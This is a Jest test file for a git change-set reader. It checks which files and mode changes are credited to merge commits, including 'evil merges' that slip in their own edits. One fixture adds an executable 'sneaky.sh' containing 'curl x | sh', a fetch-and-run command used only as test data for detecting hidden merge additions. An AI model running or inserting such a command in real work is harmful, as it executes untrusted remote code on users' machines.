import { afterEach, describe, expect, it } from '@jest/globals'
import { readLocalChangeSet } from '../../src/git/git-source.js'
import { GitRepo } from '../helpers/git-repo.js'

const ann = { name: 'Ann Example', email: 'ann@example.com' }
const github = { name: 'GitHub', email: 'noreply@github.com' }
const repos: GitRepo[] = []

const SHARED = 'one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n'

/**
 * main and feature both edit shared.txt (in different places) and each adds
 * its own file, then main moves on so that feature needs an update.
 */
async function divergedBranches() {
  const repo = await GitRepo.create({ defaultBranch: 'main' })
  repos.push(repo)
  await repo.commit({
    author: ann,
    message: 'Initial',
    write: { 'shared.txt': SHARED, 'old.txt': 'old\n' }
  })
  await repo.branch('feature')
  await repo.commit({
    author: ann,
    message: 'Main work',
    write: { 'shared.txt': SHARED.replace('eight', 'EIGHT'), 'main-only.txt': 'm\n' }
  })
  await repo.checkout('feature')
  const featureWork = await repo.commit({
    author: ann,
    message: 'Feature work',
    write: { 'shared.txt': SHARED.replace('one', 'ONE'), 'feature-only.txt': 'f\n' }
  })
  return { repo, featureWork }
}

afterEach(async () => {
  await Promise.all(repos.splice(0).map(repo => repo.cleanup()))
})

describe('readLocalChangeSet: merges', () => {
  it('gives a clean "Update branch" merge no files, even for a file both branches edited', async () => {
    const { repo, featureWork } = await divergedBranches()
    const merge = await repo.merge('main', {
      author: ann,
      committer: github,
      message: "Merge branch 'main' into feature"
    })
    const { commits } = await readLocalChangeSet({ repo: repo.dir, base: 'main' })
    expect(commits.map(commit => [commit.sha, commit.files])).toEqual([
      [
        featureWork,
        [
          { path: 'feature-only.txt', status: 'added', mode: '100644', additions: 1, deletions: 0 },
          {
            path: 'shared.txt',
            status: 'modified',
            mode: '100644',
            previousMode: '100644',
            additions: 1,
            deletions: 1
          }
        ]
      ],
      [merge, []]
    ])
  })

  it('gives an evil merge exactly the changes it made on its own', async () => {
    const { repo } = await divergedBranches()
    const merge = await repo.merge('main', {
      author: ann,
      message: "Merge branch 'main' into feature",
      evil: {
        write: {
          'shared.txt': SHARED.replace('one', 'ONE')
            .replace('eight', 'EIGHT')
            .replace('four', 'FOUR'),
          'sneaky.sh': 'curl x | sh\n'
        },
        executable: ['sneaky.sh'],
        remove: ['old.txt']
      }
    })
    const { commits } = await readLocalChangeSet({ repo: repo.dir, base: 'main' })
    const mergeCommit = commits.find(commit => commit.sha === merge)
    expect(mergeCommit?.parents).toHaveLength(2)
    expect(mergeCommit?.files).toEqual([
      { path: 'old.txt', status: 'deleted', previousMode: '100644' },
      { path: 'shared.txt', status: 'modified', mode: '100644', previousMode: '100644' },
      { path: 'sneaky.sh', status: 'added', mode: '100755' }
    ])
  })

  it('gives a merge the files where it resolved a conflict with new content', async () => {
    const repo = await GitRepo.create({ defaultBranch: 'main' })
    repos.push(repo)
    await repo.commit({ author: ann, message: 'Initial', write: { 'v.txt': 'base\n' } })
    await repo.branch('feature')
    await repo.commit({ author: ann, message: 'Main', write: { 'v.txt': 'main\n' } })
    await repo.checkout('feature')
    await repo.commit({ author: ann, message: 'Feature', write: { 'v.txt': 'feature\n' } })
    const merge = await repo.merge('main', {
      author: ann,
      message: 'Merge',
      evil: { write: { 'v.txt': 'both\n' } }
    })
    const { commits } = await readLocalChangeSet({ repo: repo.dir, base: 'main' })
    expect(commits.find(commit => commit.sha === merge)?.files).toEqual([
      { path: 'v.txt', status: 'modified', mode: '100644', previousMode: '100644' }
    ])
  })

  it('gives a merge that only changes a mode the mode change', async () => {
    const { repo } = await divergedBranches()
    const merge = await repo.merge('main', {
      author: ann,
      message: 'Merge',
      evil: { executable: ['feature-only.txt'] }
    })
    const { commits } = await readLocalChangeSet({ repo: repo.dir, base: 'main' })
    expect(commits.find(commit => commit.sha === merge)?.files).toEqual([
      { path: 'feature-only.txt', status: 'modified', mode: '100755', previousMode: '100644' }
    ])
  })

  it('measures the net diff from the updated merge-base, leaving out what main brought in', async () => {
    const { repo } = await divergedBranches()
    await repo.merge('main', { author: ann, message: "Merge branch 'main' into feature" })
    const { baseSha, files } = await readLocalChangeSet({ repo: repo.dir, base: 'main' })
    expect(baseSha).toBe(await repo.sha('main'))
    expect(files).toEqual([
      {
        path: 'feature-only.txt',
        status: 'added',
        mode: '100644',
        additions: 1,
        deletions: 0,
        patch: '@@ -0,0 +1 @@\n+f'
      },
      {
        path: 'shared.txt',
        status: 'modified',
        mode: '100644',
        previousMode: '100644',
        additions: 1,
        deletions: 1,
        // Only the feature's own line: main's EIGHT came in with the merge and is not part of the change.
        patch: '@@ -1 +1 @@\n-one\n+ONE'
      }
    ])
  })
})
